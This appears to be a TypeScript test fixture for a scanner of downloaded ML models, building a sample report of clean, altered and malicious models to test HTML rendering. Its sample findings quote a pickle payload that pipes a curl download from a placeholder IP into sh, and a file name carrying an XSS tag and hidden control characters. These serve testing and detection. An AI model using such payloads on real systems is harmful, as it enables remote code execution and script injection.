import { Fault } from '#lib/fault.ts';
import type { AdoptedModel, AdoptionReport, AdoptionRisk } from '#app/routes/adoption-report.ts';
import { renderAdoptionHtml, reportPolicy } from '#app/adopt/html.ts';
import type { AdoptionDesk, AdoptionRow } from '#app/routes/adoptions.ts';
import { parseDigest } from '#artifact/digest.ts';

const none = { critical: 0, high: 0, medium: 0, low: 0 };
const digest = (pair: string) => parseDigest(`sha256:${pair.repeat(32)}`);

function model(name: string, more: Partial<AdoptedModel>): AdoptedModel {
  return {
    name,
    layout: 'hub-cache',
    location: `/home/ml/.cache/huggingface/hub/models--${name.replace('/', '--')}/snapshots/${'5c'.repeat(20)}`,
    source: { type: 'models', id: name, commit: '5c'.repeat(20), references: ['main'] },
    artifact: digest('1f'),
    fileCount: 8,
    sizeBytes: 438_012_000,
    origin: { state: 'proved', detail: 'all 8 files are what `huggingface.co` lists at this commit' },
    verdict: 'clean',
    completeness: 'complete',
    formats: ['json', 'safetensors', 'text'],
    risks: none,
    files: [],
    ...more,
  };
}

/** Names that would act, hide or turn round what is read, if anybody let them. */
export const hostileName = 'helpful\u202etcerid\u001b[2J<img src=x onerror=alert(1)>.bin';

const models: readonly AdoptedModel[] = [
  model('acme/encoder', {}),
  model('someone/very-useful-finetune-with-a-rather-long-name-that-does-not-end-soon', {
    verdict: 'malicious',
    origin: {
      state: 'contradicted',
      detail: '1 of 5 files are not what `huggingface.co` lists at this commit',
    },
    risks: { ...none, critical: 2, medium: 1 },
    formats: ['json', 'pytorch-zip', 'safetensors'],
  }),
  model('checkpoints/run-7', {
    layout: 'folder',
    location: '/srv/models/team-blue/checkpoints/run-7',
    source: null,
    artifact: null,
    completeness: 'inconclusive',
    origin: { state: 'unknown', detail: 'nothing beside the files says where they are from' },
    risks: { ...none, high: 1, medium: 2 },
  }),
];

const risks: readonly AdoptionRisk[] = [
  {
    severity: 'critical',
    kind: 'malicious',
    model: 1,
    rule: 'PKL-CALL-DENIED',
    message: 'would call `posix.system("curl -s http://198.51.100.7/x | sh")`',
    remedy: 'do not load the file; report it to whoever published it',
    count: 1,
    paths: ['pytorch_model.bin'],
  },
  {
    severity: 'critical',
    kind: 'altered',
    model: 1,
    rule: null,
    message: `the bytes are not those that were downloaded (SHA-256 now \`${'b4'.repeat(32)}\`)`,
    remedy: 'do not load it; find out who wrote there, delete the file and download it again',
    count: 1,
    paths: ['model.safetensors'],
  },
  {
    severity: 'high',
    kind: 'suspicious',
    model: 2,
    rule: 'PATH-DECEPTIVE',
    message: 'the name holds characters that do not show',
    remedy: 'rename or remove one of the files',
    count: 1,
    paths: [hostileName],
  },
  {
    severity: 'medium',
    kind: 'unknown-origin',
    model: 2,
    rule: null,
    message: 'nothing beside the files says where they are from',
    remedy: 'pull it again through Weighbridge, which keeps where it is from as evidence',
    count: 1,
    paths: [],
  },
  {
    severity: 'medium',
    kind: 'world-writable',
    model: 2,
    rule: null,
    message: 'every user of the machine may write this file',
    remedy: 'take the right to write from others: `chmod o-w`',
    count: 312,
    paths: Array.from(
      { length: 5 },
      (_, index) => `/srv/models/team-blue/checkpoints/run-7/shard-${index}.bin`,
    ),
  },
  {
    severity: 'medium',
    kind: 'pickle-beside-safetensors',
    model: 1,
    rule: null,
    message: 'weights as a pickle beside the same weights as safetensors',
    remedy: 'delete the pickle; a loader that falls back to it runs what is in it',
    count: 1,
    paths: ['pytorch_model.bin'],
  },
  {
    severity: 'low',
    kind: 'duplicate',
    model: null,
    rule: null,
    message: 'the same 438 MB stand in 3 places (`sha256:1f1f1f1f1f1f…`)',
    remedy: 'keep one and let the others go, or pull through Weighbridge, which stores each content once',
    count: 3,
    paths: [
      '/srv/models/a/model.safetensors',
      '/srv/models/b/model.safetensors',
      '/home/ml/model.safetensors',
    ],
  },
];

/** A report with every kind of row that a page has to show. */
export const fixtureReport: AdoptionReport = {
  version: 1,
  at: '2026-11-20T08:30:00Z',
  scanner: { name: 'weighbridge-scan', version: '2', ruleSetDigest: digest('7b') },
  roots: ['/home/ml/.cache/huggingface', '/srv/models'],
  complete: false,
  incompleteReasons: ['something could not be read; the risks of kind `unread` name it'],
  filesListed: false,
  totals: {
    models: 3,
    files: 24,
    sizeBytes: 1_314_036_000,
    distinctBytes: 438_012_000,
    duplicateBytes: 876_024_000,
    partialBytes: 12_000_000,
    unreferencedBytes: 0,
    origins: { proved: 1, claimed: 0, contradicted: 1, unknown: 1 },
    risks: { critical: 2, high: 1, medium: 3, low: 1 },
  },
  work: { filesHashed: 24, filesKnown: 0, bytesHashed: 1_314_036_000, blobsScanned: 9 },
  models,
  risks,
};

export const fixtureAdoption: AdoptionRow = {
  id: digest('ad'),
  lookedAt: fixtureReport.at,
  keptAt: '2026-11-20T08:31:12Z',
  logIndex: 41,
  complete: false,
  models: 3,
  files: 24,
  sizeBytes: fixtureReport.totals.sizeBytes,
  origins: fixtureReport.totals.origins,
  risks: fixtureReport.totals.risks,
};

const clean: AdoptionRow = {
  ...fixtureAdoption,
  id: digest('c1'),
  keptAt: '2026-11-18T16:00:00Z',
  lookedAt: '2026-11-18T15:59:00Z',
  logIndex: 17,
  complete: true,
  models: 1,
  files: 8,
  origins: { proved: 1, claimed: 0, contradicted: 0, unknown: 0 },
  risks: none,
};

/** Two adoptions; what it is asked to keep, it refuses. */
export const fixtureAdoptions: AdoptionDesk = {
  keep: () => Promise.reject(new Fault('resource.unknown', 'not part of the fixture')),
  page: (report) => ({ html: renderAdoptionHtml(report), policy: reportPolicy }),
  list: async () => ({ items: [fixtureAdoption, clean], next: null }),
  show: async (_caller, id) => {
    if (id === fixtureAdoption.id) return { row: fixtureAdoption, report: fixtureReport };
    throw new Fault('resource.unknown', `there is no adoption \`${id}\` in \`default\``);
  },
};
